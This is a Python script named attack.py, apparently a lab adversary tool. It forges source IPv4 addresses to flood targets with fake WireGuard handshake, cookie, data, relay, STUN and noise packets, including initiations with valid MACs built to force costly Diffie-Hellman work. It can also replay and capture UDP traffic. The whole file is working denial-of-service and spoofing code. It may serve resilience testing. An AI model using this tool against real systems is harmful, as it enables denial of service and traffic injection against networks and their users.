"""A stranger's tools for the lab, run on a host of the internet there that may forge what it likes.

    attack.py flood KIND TARGET PORT RATE SECONDS [KEY]   KIND from forged sources at RATE a second; KEY: the target's WireGuard key, hex
    attack.py send                                        rows of JSON on stdin: source, port, destination, port, hex
    attack.py capture DEVICE SECONDS                      UDP that passes there, as such rows
Needs root. IPv4."""
import hashlib
import json
import random
import socket
import struct
import sys
import time


def datagram(source, sport, target, dport, payload):
    """An IPv4 packet, from whomever. No UDP checksum: there need be none."""
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), random.randrange(65536), 0x4000, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head + struct.pack(">4H", sport, dport, 8 + len(payload), 0) + payload


def anybody():
    return f"{random.choice((5, 23, 77, 91, 130))}.{random.randrange(256)}.{random.randrange(256)}.{random.randrange(1, 255)}"


def mac1(message, public):
    key = hashlib.blake2s(b"mac1----" + public).digest()
    return hashlib.blake2s(message, key=key, digest_size=16).digest()


def initiation(public):
    """Sound in all that can be seen without the secret: it costs whoever takes it for one a Diffie-Hellman."""
    message = b"\1\0\0\0" + random.randbytes(112)
    return message + mac1(message, public) + bytes(16)


def index():
    return bytes([random.randrange(128, 256)]) + random.randbytes(3)


KINDS = {
    "initiation": initiation,
    "initiation-bad-mac": lambda public: b"\1\0\0\0" + random.randbytes(144),
    "response": lambda public: b"\2\0\0\0" + random.randbytes(4) + index() + random.randbytes(80),
    "cookie": lambda public: b"\3\0\0\0" + index() + random.randbytes(56),
    "data": lambda public: b"\4\0\0\0" + index() + random.randbytes(8 + 16 * random.randrange(1, 80)),
    "relay": lambda public: b"\5\0\0\0" + index() + b"\4\0\0\0" + index() + random.randbytes(8 + 16 * random.randrange(1, 80)),
    "stun": lambda public: b"\0\1\0\0\x21\x12\xa4\x42" + random.randbytes(12),
    "noise": lambda public: random.randbytes(random.randrange(1, 1200)),
}


def flood(kind, target, port, rate, seconds, key="00" * 32):
    public = bytes.fromhex(key)
    packets = [datagram(anybody(), random.randrange(1024, 65536), target, port, KINDS[kind](public)) for _ in range(2048)]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begun, sent = time.monotonic(), 0
    while (now := time.monotonic()) < begun + seconds:
        while sent < (now - begun) * rate:
            s.sendto(packets[sent % len(packets)], (target, 0))
            sent += 1
        time.sleep(0.002)
    print(json.dumps({"sent": sent, "bytes": sum(map(len, packets)) * sent // len(packets)}))


def send():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for line in sys.stdin:
        source, sport, target, dport, payload = json.loads(line)
        s.sendto(datagram(source, sport, target, dport, bytes.fromhex(payload)), (target, 0))


def capture(device, seconds):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    s.bind((device, 3))
    print("listening", flush=True)
    until = time.monotonic() + seconds
    while (left := until - time.monotonic()) > 0:
        s.settimeout(left)
        try:
            packet = s.recv(65536)
        except socket.timeout:
            break
        if packet[0] == 0x45 and packet[9] == 17 and len(packet) <= 1500:  # no joined ones: they could not be sent again
            sport, dport, length = struct.unpack(">3H", packet[20:26])
            print(json.dumps([socket.inet_ntoa(packet[12:16]), sport, socket.inet_ntoa(packet[16:20]), dport, packet[28:20 + length].hex()]))


if __name__ == "__main__":
    verb, *args = sys.argv[1:]
    if verb == "flood":
        flood(args[0], args[1], int(args[2]), float(args[3]), float(args[4]), *args[5:])
    elif verb == "capture":
        capture(args[0], float(args[1]))
    else:
        send()
